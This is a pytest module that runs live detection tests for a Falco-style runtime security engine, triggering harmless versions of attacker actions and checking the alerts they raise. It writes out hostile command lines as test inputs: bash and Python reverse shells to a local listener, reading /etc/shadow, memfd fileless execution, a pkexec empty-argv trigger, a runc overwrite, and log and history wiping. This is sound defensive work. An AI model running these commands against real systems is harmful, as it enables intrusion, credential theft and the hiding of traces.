"""The built-in syscall rules, live: ONE `rae run` (built-in rules, ``rule_matching: all``) watches this
host while each test performs a real positive action (and, where it makes sense, a negative one) and
checks the alert and its key fields (rule, priority, proc.name, proc.cmdline, proc.pname, fd.name,
user.name, container.id).

Container cases run in a real runc container (busybox-static rootfs under a temporary directory) in a
kubepods-like relative cgroup, so ``container.id`` is the container's real 12-character id. Actions
that would be dangerous on the host fail harmlessly while still making the syscall the rule watches:
``finit_module`` on an invalid fd (EBADF), ``mount`` of proc in a container without CAP_SYS_ADMIN
(EPERM), writes to a COPY named ``runc`` inside the container rootfs, unique files created under
/etc, /usr/local/bin and /var/log and removed at once.

A negative action runs before its positive one: when the positive alert is out, the negative's events
were processed, so "no alert for it" is a real observation. Alerts are told apart from anything else
running on the machine by the acting process's pid or a unique token in its command line.

The same module checks Falco's own rules (falco_rules 1.0.1 from the corpus) on container actions
with a second engine; `tests/engine/test_engine_upstream_rules.py` covers their host cases.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "engine"))
from enginehelpers import RaeRun, free_port, why_not_live, write_config
from runc_container import RuncContainer, why_no_runc

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "containers"))
from private_containerd import PrivateContainerd, why_no_containerd

pytestmark = [
    pytest.mark.live,
    pytest.mark.timeout(120),
    pytest.mark.skipif(why_not_live() is not None, reason=why_not_live() or ""),
    pytest.mark.skipif(why_no_runc() is not None, reason=why_no_runc() or ""),
]

ME = Path("/proc/self/comm").read_text().strip()  # proc.pname of the actions this process starts
PY = Path(sys.executable).name[:15]  # proc.name of a Python child
WAIT = 10.0


class Env:
    def __init__(self, tmp: Path, run: RaeRun, ctr: RuncContainer) -> None:
        self.tmp = tmp
        self.run = run
        self.ctr = ctr
        self.cid = ctr.short_id

    def host(self, cmd: list[str], stdin: bytes | None = None, check: bool = False, **kw: Any) -> int:
        """Run ``cmd`` on the host to its end; its pid (what the alert's proc.pid says)."""
        p = subprocess.Popen(cmd, stdin=subprocess.PIPE if stdin is not None else subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
        p.communicate(stdin, timeout=30)
        if check:
            assert p.returncode == 0, cmd
        return p.pid

    def alert(self, rule: str, pred: Callable[[dict[str, Any]], bool], start: int) -> dict[str, Any]:
        _, a = self.run.wait_alert(lambda a: a["rule"] == rule and pred(a["output_fields"]), start, WAIT)
        return a

    def none(self, rule: str, pred: Callable[[dict[str, Any]], bool], start: int) -> None:
        hits = [a for a in self.run.alerts(start) if a["rule"] == rule and pred(a["output_fields"])]
        assert hits == [], hits


def by_pid(pid: int) -> Callable[[dict[str, Any]], bool]:
    return lambda f: str(f.get("proc.pid")) == str(pid)


def in_ctr(env: Env, token: str) -> Callable[[dict[str, Any]], bool]:
    return lambda f: f.get("container.id") == env.cid and token in str(f.get("proc.cmdline"))


def check(alert: dict[str, Any], priority: str, **fields: Any) -> None:
    f = alert["output_fields"]
    assert alert["priority"] == priority, alert
    assert alert["source"] == "syscall"
    got = {k: f.get(k.replace("_", ".", 1) if "_" in k else k) for k in fields}
    want = dict(fields)
    assert got == want, alert["output"]


def _touch_on_host(env: Env, rule: str, priority: str, target: Path, negative: list[str]) -> None:
    """``negative`` (a read nearby) then ``touch target`` on the host (``target`` removed at once): the
    touch alerts with its own fields, the read does not."""
    start = len(env.run.out)
    try:
        neg = env.host(negative, check=True)
        pos = env.host(["touch", str(target)], check=True)
    finally:
        target.unlink(missing_ok=True)
    a = env.alert(rule, by_pid(pos), start)
    check(a, priority, proc_name="touch", proc_cmdline=f"touch {target}", proc_pname=ME, fd_name=str(target),
          user_name="root", container_id="host")
    env.none(rule, by_pid(neg), start)


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    tmp = tmp_path_factory.mktemp("builtin-live")
    web = free_port()
    cfg = write_config(tmp / "rae.yaml", web, {"rule_matching": "all", "watch_config_files": False})
    run = RaeRun(["-c", str(cfg)], web)  # no -r: the built-in rules
    ctr = RuncContainer(tmp, files={"usr/sbin/runc": b"#!/bin/sh\n# a copy standing for runc\n",
                                    "usr/lib/libdemo.so": b"\x7fELF", "etc/shadow": b"root:*:19000::::::\n"})
    try:
        run.wait_healthy()
        with ctr:
            yield Env(tmp, run, ctr)
    finally:
        assert run.stop() == 0


@pytest.fixture
def listener() -> Iterator[int]:
    """A local TCP server that accepts and holds connections (the far end of the reverse shells)."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    conns: list[socket.socket] = []
    stop = threading.Event()

    def serve() -> None:
        srv.settimeout(0.2)
        while not stop.is_set():
            try:
                conns.append(srv.accept()[0])
            except OSError:
                continue

    th = threading.Thread(target=serve, daemon=True)
    th.start()
    try:
        yield srv.getsockname()[1]
    finally:
        stop.set()
        th.join(5)
        for c in conns:
            c.close()
        srv.close()


# --- container escapes and exploits -----------------------------------------------------------------


def test_container_runtime_binary_overwrite(env: Env) -> None:
    rule = "Container Runtime Binary Overwrite"
    start = len(env.run.out)
    neg = env.tmp / "host-copy" / "runc"
    neg.parent.mkdir()
    env.host(["sh", "-c", f"echo x > {neg}"], check=True)  # the same write on the host
    env.ctr.exec("sh", "-c", "echo x > /usr/sbin/runc # rae-cve-2019-5736", check=True)
    a = env.alert(rule, in_ctr(env, "rae-cve-2019-5736"), start)
    check(a, "Critical", proc_name="sh", proc_cmdline="sh -c echo x > /usr/sbin/runc # rae-cve-2019-5736",
          proc_pname="runc", fd_name="/usr/sbin/runc", user_name="root", container_id=env.cid)
    env.none(rule, lambda f: f.get("fd.name") == str(neg), start)


def test_cgroup_release_agent_modified(env: Env) -> None:
    agent = env.tmp / "cg" / "release_agent"
    agent.parent.mkdir()
    agent.write_text("")
    _touch_on_host(env, "Cgroup Release Agent Modified", "Critical", agent, ["cat", str(agent)])


def test_sensitive_mount_by_container_process(env: Env) -> None:
    rule = "Sensitive Mount by Container Process"
    start = len(env.run.out)
    assert env.ctr.exec("mount", "-t", "tmpfs", "tmpfs", "/mnt").returncode != 0  # EPERM: no CAP_SYS_ADMIN
    assert env.ctr.exec("mount", "-t", "proc", "proc", "/mnt").returncode != 0
    a = env.alert(rule, in_ctr(env, "mount -t proc"), start)
    check(a, "Critical", proc_name="mount", proc_cmdline="mount -t proc proc /mnt", proc_pname="runc",
          user_name="root", container_id=env.cid)
    f = a["output_fields"]
    assert (f["evt.arg.type"], f["evt.arg.dir"], f["evt.res"]) == ("proc", "/mnt", "EPERM")
    env.none(rule, in_ctr(env, "tmpfs"), start)


def test_pkexec_with_an_empty_argv(env: Env) -> None:
    rule = "Privilege Escalation via Pkexec Empty Argv"
    pkexec = env.tmp / "pk" / "pkexec"
    pkexec.parent.mkdir()
    shutil.copy("/bin/true", pkexec)
    start = len(env.run.out)
    neg = env.host([str(pkexec), "--version"], check=True)
    code = ("import ctypes;libc=ctypes.CDLL(None,use_errno=True);argv=(ctypes.c_char_p*1)(None);"
            f"libc.execve({str(pkexec).encode()!r},argv,argv);raise SystemExit(ctypes.get_errno())")
    pos = env.host([sys.executable, "-c", code], check=True)
    a = env.alert(rule, by_pid(pos), start)
    check(a, "Critical", proc_name="pkexec", proc_pname=ME, user_name="root", container_id="host")
    assert a["output_fields"]["proc.cmdline"] in ("pkexec", "pkexec ")
    env.none(rule, by_pid(neg), start)


# --- execution -----------------------------------------------------------------------------------------


def test_cryptocurrency_miner_launched(env: Env) -> None:
    rule = "Cryptocurrency Miner Launched"
    start = len(env.run.out)
    neg = env.host(["sh", "-c", "true"], check=True)
    pos = env.host(["sh", "-c", "true stratum+tcp://pool.example:3333"], check=True)
    a = env.alert(rule, by_pid(pos), start)
    check(a, "Critical", proc_name="sh", proc_cmdline="sh -c true stratum+tcp://pool.example:3333",
          proc_pname=ME, user_name="root", container_id="host")
    env.none(rule, by_pid(neg), start)


def test_outbound_connection_to_mining_pool_port(env: Env) -> None:
    rule = "Outbound Connection to Mining Pool Port"
    code = ("import socket,sys;s=socket.socket();s.setblocking(False);"
            "print(s.connect_ex((sys.argv[1],3333)))")
    start = len(env.run.out)
    neg = env.host([sys.executable, "-c", code, "127.0.0.1"])  # refused, and private anyway
    pos = env.host([sys.executable, "-c", code, "203.0.113.1"])  # TEST-NET-3: EINPROGRESS, never answers
    a = env.alert(rule, by_pid(pos), start)
    check(a, "Warning", proc_name=PY, proc_pname=ME, user_name="root", container_id="host")
    f = a["output_fields"]
    assert f["fd.name"].endswith("->203.0.113.1:3333") and f["fd.sport"] in (3333, "3333")
    assert f["proc.cmdline"].endswith(" 203.0.113.1")
    env.none(rule, by_pid(neg), start)


def test_reverse_shell_socket_redirect(env: Env, listener: int) -> None:
    rule = "Reverse Shell Socket Redirect"
    start = len(env.run.out)
    neg = env.host(["bash", "-c", f"exec 5>{env.tmp}/redirect.txt"], check=True)
    pos = env.host(["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{listener}; exec 0<&3"], check=True)
    a = env.alert(rule, by_pid(pos), start)
    check(a, "Critical", proc_name="bash", proc_pname=ME, user_name="root", container_id="host",
          proc_cmdline=f"bash -c exec 3<>/dev/tcp/127.0.0.1/{listener}; exec 0<&3")
    assert a["output_fields"]["fd.name"].endswith(f"->127.0.0.1:{listener}")
    env.none(rule, by_pid(neg), start)


def test_shell_started_with_network_socket_as_stdin(env: Env, listener: int) -> None:
    rule = "Shell Started With Network Socket as Stdin"
    code = ("import socket,os,sys;s=socket.create_connection(('127.0.0.1',int(sys.argv[1])));"
            "os.dup2(s.fileno(),0);os.execv('/bin/sh',['sh','-c','exit'])")
    start = len(env.run.out)
    neg = env.host(["sh"], stdin=b"exit\n", check=True)
    pos = env.host([sys.executable, "-c", code, str(listener)], check=True)
    a = env.alert(rule, by_pid(pos), start)
    check(a, "Critical", proc_name="sh", proc_cmdline="sh -c exit", proc_pname=ME, user_name="root",
          container_id="host")
    assert a["output_fields"]["proc.stdin.name"].endswith(f"->127.0.0.1:{listener}")
    env.none(rule, by_pid(neg), start)


def test_fileless_execution_from_memory(env: Env) -> None:
    rule = "Fileless Execution from Memory"
    code = ("import os;m=os.memfd_create('rae-fileless');os.write(m,open('/bin/true','rb').read());"
            "os.execve(m,['true','rae-fileless'],{})")
    start = len(env.run.out)
    neg = env.host(["/bin/true", "rae-fileless"], check=True)
    pos = env.host([sys.executable, "-c", code], check=True)
    a = env.alert(rule, by_pid(pos), start)
    f = a["output_fields"]
    check(a, "Critical", proc_pname=ME, user_name="root", container_id="host")
    # the kernel names an fexecve'd memfd "memfd:<name>" (cut to 15 characters; older kernels: the fd number)
    assert f["proc.name"] in ("memfd:rae-filel", "3", "4"), f
    assert f["proc.cmdline"] == f"{f['proc.name']} rae-fileless"
    env.none(rule, by_pid(neg), start)


def test_kernel_module_loaded(env: Env) -> None:
    rule = "Kernel Module Loaded"
    # finit_module(-1, "", 0): the kernel refuses the fd (EBADF) — the syscall is made, nothing is loaded
    code = "import ctypes;libc=ctypes.CDLL(None,use_errno=True);print(libc.syscall(313,-1,b'',0))"
    start = len(env.run.out)
    env.ctr.exec("lsmod", "rae-kmod-neg")
    pos = env.host([sys.executable, "-c", code], check=True)
    a = env.alert(rule, by_pid(pos), start)
    check(a, "Warning", proc_name=PY, proc_cmdline=f"{PY} -c {code}", proc_pname=ME, user_name="root",
          container_id="host")
    assert a["output_fields"]["evt.type"] == "finit_module"  # a generic event: no result live
    # and insmod in a container (the file does not exist: insmod fails before any syscall)
    env.ctr.exec("insmod", "/nonexistent/rae-kmod.ko")
    a = env.alert(rule, in_ctr(env, "rae-kmod.ko"), start)
    check(a, "Warning", proc_name="insmod", proc_cmdline="insmod /nonexistent/rae-kmod.ko", proc_pname="runc",
          user_name="root", container_id=env.cid)
    env.none(rule, in_ctr(env, "rae-kmod-neg"), start)


def test_ptrace_attach_to_process(env: Env) -> None:
    rule = "Ptrace Attach to Process"
    target = subprocess.Popen(["sleep", "30"])
    attach = ("import ctypes,os,sys;libc=ctypes.CDLL(None,use_errno=True);p=int(sys.argv[1]);"
              "assert libc.ptrace(16,p,0,0)==0;os.waitpid(p,0);libc.ptrace(17,p,0,0)")
    traceme = "import ctypes;ctypes.CDLL(None).ptrace(0,0,0,0)"
    try:
        start = len(env.run.out)
        neg = env.host([sys.executable, "-c", traceme], check=True)
        pos = env.host([sys.executable, "-c", attach, str(target.pid)], check=True)
        a = env.alert(rule, by_pid(pos), start)
        check(a, "Warning", proc_name=PY, proc_pname=ME, user_name="root", container_id="host")
        f = a["output_fields"]
        assert f["evt.arg.request"] == "PTRACE_ATTACH"
        assert f["evt.arg.pid"] == "sleep"  # a PID argument renders as its process's name, as sysdig's
        env.none(rule, by_pid(neg), start)
    finally:
        target.kill()
        target.wait()


@pytest.fixture(scope="module")
def cri(env: Env) -> Iterator[tuple[PrivateContainerd, RaeRun]]:
    """A private containerd (CRI) and a third engine reading container metadata from its socket.

    Runc containers started by hand have no metadata anywhere (as in Falco); pods created through
    CRI do. ``disable_async``: the lookup runs when the container's first process is seen (runc's
    init child, before the pid-1 exec the rule watches), so the test does not depend on the
    lookup thread winning that race (it usually does by milliseconds — docs/containers.md).
    """
    why = why_no_containerd()
    if why is not None:
        pytest.skip(why)
    base = env.tmp / "ctd"
    base.mkdir()
    with PrivateContainerd(base) as ctd:
        web = free_port()
        cfg = write_config(env.tmp / "cri.yaml", web, {
            "rule_matching": "all", "watch_config_files": False,
            "container_engines": {"cri": {"sockets": [ctd.socket], "disable_async": True}}})
        run = RaeRun(["-c", str(cfg)], web)
        try:
            run.wait_healthy()
            yield ctd, run
        finally:
            assert run.stop() == 0


def test_container_started_with_sensitive_mount(env: Env, cri: tuple[PrivateContainerd, RaeRun]) -> None:
    rule = "Container Started With Sensitive Mount"
    ctd, run = cri
    data = env.tmp / "pod-data"
    data.mkdir()
    start = len(run.out)
    neg_sid, neg, _ = ctd.run_pod("plain-1", "shop", {"app": "plain"}, "plain", [(str(data), "/data", False)],
                                  privileged=False)
    pos_sid, pos, _ = ctd.run_pod("hostproc-1", "shop", {"app": "agent"}, "agent", [("/proc", "/host/proc", True)],
                                  privileged=True)
    _, a = run.wait_alert(lambda a: a["rule"] == rule and a["output_fields"]["container.id"] == pos[:12], start,
                          WAIT)
    f = a["output_fields"]
    assert a["priority"] == "Warning"
    assert (f["container.name"], f["container.image.repository"], f["proc.name"]) == (
        "agent", "registry.local/rae/busybox", "sleep")
    assert f["container.mounts"].startswith("/proc:/host/proc::false:"), f
    assert [x for x in run.alerts(start) if x["rule"] == rule
            and x["output_fields"]["container.id"] in (neg[:12], neg_sid[:12], pos_sid[:12])] == []


def test_terminal_shell_in_container(env: Env) -> None:
    rule = "Terminal Shell in Container"
    start = len(env.run.out)
    env.ctr.exec("sh", "-c", "true # rae-noterm", check=True)  # no terminal
    code, out = env.ctr.exec_with_tty("sh", "-c", "tty; exit 0 # rae-term")
    assert code == 0 and b"/dev/pts/" in out, out
    a = env.alert(rule, in_ctr(env, "rae-term"), start)
    check(a, "Notice", proc_name="sh", proc_cmdline="sh -c tty; exit 0 # rae-term", proc_pname="runc",
          user_name="root", container_id=env.cid)
    assert a["output_fields"]["proc.tty"] not in (0, "0")
    env.none(rule, in_ctr(env, "rae-noterm"), start)


def test_shell_spawned_in_container(env: Env) -> None:
    rule = "Shell Spawned in Container"
    start = len(env.run.out)
    env.ctr.exec("sh", "-c", "true # rae-by-runtime", check=True)  # started by the runtime: expected
    env.ctr.exec("find", "/", "-maxdepth", "0", "-exec", "sh", "-c", "true # rae-by-find", ";", check=True)
    a = env.alert(rule, in_ctr(env, "rae-by-find"), start)
    # busybox runs its own applets through /proc/self/exe: the kernel then names the shell "exe"
    name = a["output_fields"]["proc.name"]
    assert name in ("sh", "exe")
    check(a, "Notice", proc_name=name, proc_cmdline=f"{name} -c true # rae-by-find", proc_pname="find",
          user_name="root", container_id=env.cid)
    env.none(rule, in_ctr(env, "rae-by-runtime"), start)


# --- files -------------------------------------------------------------------------------------------


def test_write_below_binary_directory(env: Env) -> None:
    target = Path(f"/usr/local/bin/rae-e2e-{os.getpid()}")
    _touch_on_host(env, "Write Below Binary Directory", "Error", target, ["cat", "/bin/true"])


def test_write_below_library_directory(env: Env) -> None:
    rule = "Write Below Library Directory"
    start = len(env.run.out)
    env.ctr.exec("cat", "/usr/lib/libdemo.so", "/rae-lib-neg")
    env.ctr.exec("cp", "/bin/busybox", "/usr/lib/rae-lib-pos.so", check=True)
    a = env.alert(rule, in_ctr(env, "rae-lib-pos"), start)
    check(a, "Error", proc_name="cp", proc_cmdline="cp /bin/busybox /usr/lib/rae-lib-pos.so", proc_pname="runc",
          fd_name="/usr/lib/rae-lib-pos.so", user_name="root", container_id=env.cid)
    env.none(rule, in_ctr(env, "rae-lib-neg"), start)


def test_write_below_etc(env: Env) -> None:
    target = Path(f"/etc/rae-e2e-{os.getpid()}")
    _touch_on_host(env, "Write Below Etc", "Error", target, ["cat", "/etc/hostname"])


def test_read_sensitive_file_by_untrusted_program(env: Env) -> None:
    rule = "Read Sensitive File by Untrusted Program"
    trusted = env.tmp / "trusted" / "unix_chkpwd"  # a trusted name (PAM's helper)
    trusted.parent.mkdir()
    shutil.copy("/bin/cat", trusted)
    start = len(env.run.out)
    neg = env.host([str(trusted), "/etc/shadow"], check=True)
    pos = env.host(["cat", "/etc/shadow"], check=True)
    a = env.alert(rule, by_pid(pos), start)
    check(a, "Warning", proc_name="cat", proc_cmdline="cat /etc/shadow", proc_pname=ME, fd_name="/etc/shadow",
          user_name="root", container_id="host")
    env.none(rule, by_pid(neg), start)


def test_log_files_cleared(env: Env) -> None:
    rule = "Log Files Cleared"
    log = Path(f"/var/log/rae-e2e-{os.getpid()}.log")
    start = len(env.run.out)
    try:
        neg = env.host(["sh", "-c", f"echo x >> {log}"], check=True)  # an append
        pos = env.host(["sh", "-c", f": > {log}"], check=True)  # truncated
        rm = env.host(["rm", str(log)], check=True)
    finally:
        log.unlink(missing_ok=True)
    a = env.alert(rule, by_pid(pos), start)
    check(a, "Warning", proc_name="sh", proc_cmdline=f"sh -c : > {log}", proc_pname=ME, fd_name=str(log),
          user_name="root", container_id="host")
    a = env.alert(rule, by_pid(rm), start)
    check(a, "Warning", proc_name="rm", proc_cmdline=f"rm {log}", proc_pname=ME, user_name="root",
          container_id="host")
    assert a["output_fields"]["fs.path.name"] == str(log)
    env.none(rule, by_pid(neg), start)


def test_shell_history_deleted(env: Env) -> None:
    rule = "Shell History Deleted"
    home = env.tmp / "home"
    home.mkdir()
    hist = home / ".bash_history"
    hist.write_text("ls\n")
    start = len(env.run.out)
    neg = env.host(["sh", "-c", f": > {hist}"], check=True)  # a shell truncating it: as on exit
    pos = env.host(["rm", str(hist)], check=True)
    a = env.alert(rule, by_pid(pos), start)
    check(a, "Warning", proc_name="rm", proc_cmdline=f"rm {hist}", proc_pname=ME, user_name="root",
          container_id="host")
    assert a["output_fields"]["fs.path.name"] == str(hist)
    env.none(rule, by_pid(neg), start)


def test_every_builtin_syscall_rule_is_exercised() -> None:
    """A new built-in rule needs a live case here."""
    import yaml

    rules_file = Path(__file__).resolve().parents[2] / "rules" / "falco_rules.yaml"
    names = {i["rule"] for i in yaml.safe_load(rules_file.read_text()) if isinstance(i, dict) and "rule" in i}
    src = Path(__file__).read_text()
    assert {n for n in names if f'"{n}"' not in src} == set()


# --- Falco's own rules (falco_rules 1.0.1) on container actions --------------------------------------------


@pytest.fixture(scope="module")
def upstream(env: Env, corpus_dir: Path) -> Iterator[RaeRun]:
    """A second engine with Falco's rules file (the host cases are in tests/engine)."""
    web = free_port()
    cfg = write_config(env.tmp / "upstream.yaml", web, {"rule_matching": "all", "watch_config_files": False})
    run = RaeRun(["-c", str(cfg), "-r", str(corpus_dir / "upstream-rules" / "falco_rules-1.0.1.yaml")], web)
    try:
        run.wait_healthy()
        yield run
    finally:
        assert run.stop() == 0


def _upstream_alert(run: RaeRun, rule: str, env: Env, token: str, start: int) -> dict[str, Any]:
    _, a = run.wait_alert(lambda a: a["rule"] == rule and in_ctr(env, token)(a["output_fields"]), start, WAIT)
    return a


def test_upstream_terminal_shell_in_container(env: Env, upstream: RaeRun) -> None:
    rule = "Terminal shell in container"
    start = len(upstream.out)
    env.ctr.exec("sh", "-c", "true # rae-up-noterm", check=True)
    code, out = env.ctr.exec_with_tty("sh", "-c", "exit 0 # rae-up-term")
    assert code == 0, out
    a = _upstream_alert(upstream, rule, env, "rae-up-term", start)
    assert a["priority"] == "Notice"
    f = a["output_fields"]
    assert (f["proc.name"], f["proc.cmdline"], f["proc.pname"], f["user.name"], f["container.id"]) == (
        "sh", "sh -c exit 0 # rae-up-term", "runc", "root", env.cid)
    assert f["proc.tty"] not in (0, "0")
    assert [x for x in upstream.alerts(start) if x["rule"] == rule
            and "rae-up-noterm" in str(x["output_fields"].get("proc.cmdline"))] == []


def test_upstream_read_sensitive_file_and_write_below_etc_in_a_container(env: Env, upstream: RaeRun) -> None:
    start = len(upstream.out)
    env.ctr.exec("cat", "/etc/shadow", check=True)
    a = _upstream_alert(upstream, "Read sensitive file untrusted", env, "cat /etc/shadow", start)
    f = a["output_fields"]
    assert a["priority"] == "Warning"
    assert (f["proc.name"], f["proc.cmdline"], f["proc.pname"], f["fd.name"], f["user.name"]) == (
        "cat", "cat /etc/shadow", "runc", "/etc/shadow", "root")
    env.ctr.exec("touch", "/etc/rae-up-etc", check=True)
    a = _upstream_alert(upstream, "Write below etc", env, "rae-up-etc", start)
    f = a["output_fields"]
    assert a["priority"] == "Error"
    assert (f["proc.name"], f["proc.cmdline"], f["fd.name"], f["user.name"]) == (
        "touch", "touch /etc/rae-up-etc", "/etc/rae-up-etc", "root")
